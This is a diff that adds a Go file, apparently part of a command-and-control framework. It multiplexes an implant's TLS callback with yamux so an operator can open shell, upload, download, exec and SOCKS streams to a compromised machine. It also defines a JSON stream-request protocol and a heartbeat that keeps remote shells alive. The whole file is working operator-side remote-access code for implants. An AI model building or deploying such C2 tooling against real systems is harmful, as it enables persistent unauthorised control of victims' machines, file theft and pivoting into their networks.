@@ -0,0 +1,160 @@
+// Package transport wraps an implant's TLS connection in a yamux session so
+// a single callback can carry more than one logical stream: the shell that
+// lands in tmux, plus on-demand upload, download, exec and SOCKS streams
+// opened later by the operator without requiring a fresh TLS callback.
+package transport
+
+import (
+	"encoding/binary"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net"
+	"time"
+
+	"github.com/hashicorp/yamux"
+	log "github.com/sirupsen/logrus"
+)
+
+// StreamKind identifies what an implant (or operator) wants to do with a
+// newly opened yamux stream.
+type StreamKind string
+
+const (
+	KindShell    StreamKind = "shell"
+	KindUpload   StreamKind = "upload"
+	KindDownload StreamKind = "download"
+	KindSOCKS    StreamKind = "socks"
+	KindExec     StreamKind = "exec"
+	KindPing     StreamKind = "ping"
+)
+
+// StreamRequest is the small length-prefixed JSON message sent as the first
+// bytes of every stream other than the control stream itself.
+type StreamRequest struct {
+	Kind StreamKind `json:"kind"`
+	Args []string   `json:"args,omitempty"`
+}
+
+// Session wraps a yamux session for one implant connection. Control is the
+// first stream the implant opens, carrying the hostname/username handshake
+// plus its initial StreamRequest.
+type Session struct {
+	Mux     *yamux.Session
+	Control net.Conn
+}
+
+// config returns yamux's defaults with a keepalive aggressive enough that an
+// idle tmux pane doesn't let the underlying mux time out.
+func config() *yamux.Config {
+	cfg := yamux.DefaultConfig()
+	cfg.EnableKeepAlive = true
+	cfg.KeepAliveInterval = 15 * time.Second
+	cfg.ConnectionWriteTimeout = 10 * time.Second
+	return cfg
+}
+
+// Open wraps conn in a yamux server session and accepts the implant's first
+// stream as the control stream.
+func Open(conn net.Conn) (*Session, error) {
+	mux, err := yamux.Server(conn, config())
+	if err != nil {
+		return nil, fmt.Errorf("yamux server: %w", err)
+	}
+
+	control, err := mux.Accept()
+	if err != nil {
+		mux.Close()
+		return nil, fmt.Errorf("accept control stream: %w", err)
+	}
+
+	return &Session{Mux: mux, Control: control}, nil
+}
+
+// OpenStream asks the implant to open a new stream of the given kind by
+// opening a yamux stream and writing the request as its first message.
+func (s *Session) OpenStream(kind StreamKind, args ...string) (net.Conn, error) {
+	stream, err := s.Mux.Open()
+	if err != nil {
+		return nil, fmt.Errorf("open stream: %w", err)
+	}
+
+	if err := WriteRequest(stream, StreamRequest{Kind: kind, Args: args}); err != nil {
+		stream.Close()
+		return nil, err
+	}
+
+	return stream, nil
+}
+
+// maxRequestLen bounds the length prefix ReadRequest will allocate for. A
+// StreamRequest is just {kind, args} as JSON, so a few KB is generous; this
+// exists to stop a malformed or hostile length prefix from forcing a
+// multi-GB allocation.
+const maxRequestLen = 16 * 1024
+
+// ReadRequest reads one length-prefixed JSON StreamRequest from r.
+func ReadRequest(r io.Reader) (StreamRequest, error) {
+	var req StreamRequest
+
+	var length uint32
+	if err := binary.Read(r, binary.BigEndian, &length); err != nil {
+		return req, fmt.Errorf("read length prefix: %w", err)
+	}
+	if length > maxRequestLen {
+		return req, fmt.Errorf("request body too large: %d bytes (max %d)", length, maxRequestLen)
+	}
+
+	buf := make([]byte, length)
+	if _, err := io.ReadFull(r, buf); err != nil {
+		return req, fmt.Errorf("read request body: %w", err)
+	}
+
+	if err := json.Unmarshal(buf, &req); err != nil {
+		return req, fmt.Errorf("unmarshal request: %w", err)
+	}
+	return req, nil
+}
+
+// WriteRequest writes req to w as a length-prefixed JSON message.
+func WriteRequest(w io.Writer, req StreamRequest) error {
+	buf, err := json.Marshal(req)
+	if err != nil {
+		return fmt.Errorf("marshal request: %w", err)
+	}
+
+	if err := binary.Write(w, binary.BigEndian, uint32(len(buf))); err != nil {
+		return fmt.Errorf("write length prefix: %w", err)
+	}
+
+	_, err = w.Write(buf)
+	return err
+}
+
+// Heartbeat opens a dedicated ping stream and writes to it periodically so
+// that idle tmux panes don't let the mux get reaped by a middlebox. It
+// blocks until the stream (or the underlying mux) closes, so call it in its
+// own goroutine.
+func (s *Session) Heartbeat(interval time.Duration) {
+	stream, err := s.Mux.Open()
+	if err != nil {
+		log.WithError(err).Warn("heartbeat stream open failed")
+		return
+	}
+	defer stream.Close()
+
+	if err := WriteRequest(stream, StreamRequest{Kind: KindPing}); err != nil {
+		log.WithError(err).Warn("heartbeat handshake failed")
+		return
+	}
+
+	ticker := time.NewTicker(interval)
+	defer ticker.Stop()
+
+	for range ticker.C {
+		if _, err := stream.Write([]byte{0}); err != nil {
+			log.WithError(err).Debug("heartbeat stopped")
+			return
+		}
+	}
+}